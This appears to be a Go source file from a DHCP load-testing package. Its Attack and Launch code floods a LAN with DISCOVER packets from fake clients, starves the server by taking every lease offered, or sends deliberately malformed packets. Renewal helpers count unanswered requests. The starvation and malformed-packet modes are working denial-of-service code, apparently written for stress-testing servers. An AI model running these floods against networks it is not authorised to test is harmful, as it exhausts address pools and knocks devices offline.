package dhcpload

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"
)

// Attack is a flood from one port of the LAN.
type Attack struct {
	// Interface is where the attacker is.
	Interface string
	// Kind is "discover" (each from a made-up phone, and nothing after it),
	// "starve" (made-up phones that take every lease they are offered) or
	// "malformed" (packets broken in every way).
	Kind string
	// Count packets are sent, or phones played, over the given time; as fast
	// as possible if that is 0.
	Count int
	Over  time.Duration
}

// Launch runs an attack.
func Launch(ctx context.Context, a Attack) (Result, error) {
	if a.Kind == "starve" {
		start := time.Now()
		r, err := Play(ctx, Plan{
			Interface: a.Interface, Phones: a.Count, Window: 64, First: 0x800000, Retry: time.Second,
			Limit: max(a.Over, 5*time.Second), GiveUp: true,
		})
		r.Took = time.Since(start)
		return r, err
	}
	conn, err := open(ctx, a.Interface)
	if err != nil {
		return Result{}, fmt.Errorf("attack: %w", err)
	}
	defer conn.Close()
	rng := rand.New(rand.NewPCG(11, 12))
	g := &play{conn: conn}
	start := time.Now()
	for i := range a.Count {
		// Phones of a known vendor: those are what gets answers.
		p := phone{packet: append(Packet(1, rng.Uint32(), rng.Uint32()), 255)}
		if a.Kind == "malformed" {
			p.packet = malform(rng, p.packet)
		}
		if err := g.send(&p); err != nil {
			return Result{}, fmt.Errorf("attack: %w", err)
		}
		if due := start.Add(a.Over * time.Duration(i) / time.Duration(a.Count)); a.Over > 0 {
			time.Sleep(time.Until(due))
		}
	}
	return Result{Phones: a.Count, Took: time.Since(start)}, nil
}

// malform breaks a packet: cut short, with bytes changed, with options that run
// past the end, or no packet at all.
func malform(rng *rand.Rand, p []byte) []byte {
	switch rng.IntN(5) {
	case 0:
		return p[:rng.IntN(len(p))]
	case 1:
		for range 1 + rng.IntN(20) {
			p[rng.IntN(len(p))] = byte(rng.Uint32())
		}
		return p
	case 2:
		return append(p[:len(p)-1], byte(1+rng.IntN(254)), byte(200+rng.IntN(55)), 1)
	case 3:
		junk := make([]byte, 1+rng.IntN(1400))
		for i := range junk {
			junk[i] = byte(rng.Uint32())
		}
		return junk
	}
	// Overloaded fields full of junk (RFC 2131 4.1).
	for i := 44; i < 236; i++ {
		p[i] = byte(rng.Uint32())
	}
	return append(p[:len(p)-1], 52, 1, 3, 255)
}

// keep has phones that have a lease ask for it again, one after the other, and
// counts those that are not answered.
func (g *play) keep(ctx context.Context) {
	if g.Renew <= 0 {
		return
	}
	end := time.Now().Add(g.Renew)
	for gen := uint32(1); gen == 1 || time.Now().Before(end) && ctx.Err() == nil; gen++ {
		for i := range g.phones {
			if gen > 1 && time.Now().After(end) || ctx.Err() != nil {
				return
			}
			g.Renewals++
			if !g.renew(uint32(i), uint32(i)|gen<<16) {
				g.Lost++
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
}

// renew sends an INIT-REBOOT (RFC 2131 4.3.2), another one when nothing comes in
// time, and reports whether the same address is confirmed.
func (g *play) renew(i, xid uint32) bool {
	ip := g.phones[i].ip.As4()
	p := phone{packet: append(Packet(3, xid, g.First+i), 50, 4, ip[0], ip[1], ip[2], ip[3], 255)}
	for range g.Tries {
		start := time.Now()
		if g.send(&p) != nil {
			return false
		}
		_ = g.conn.SetReadDeadline(start.Add(time.Second))
		for {
			n, _, err := g.conn.ReadFromUDPAddrPort(g.buf[:])
			if err != nil {
				break
			}
			b := g.buf[:n]
			if n > 243 && string(b[4:8]) == string(p.packet[4:8]) && b[240] == 53 && string(b[28:34]) == string(p.packet[28:34]) {
				g.renewed = append(g.renewed, time.Since(start))
				return b[242] == 5 && netip.AddrFrom4([4]byte(b[16:20])) == g.phones[i].ip
			}
		}
		g.Retries++
	}
	return false
}
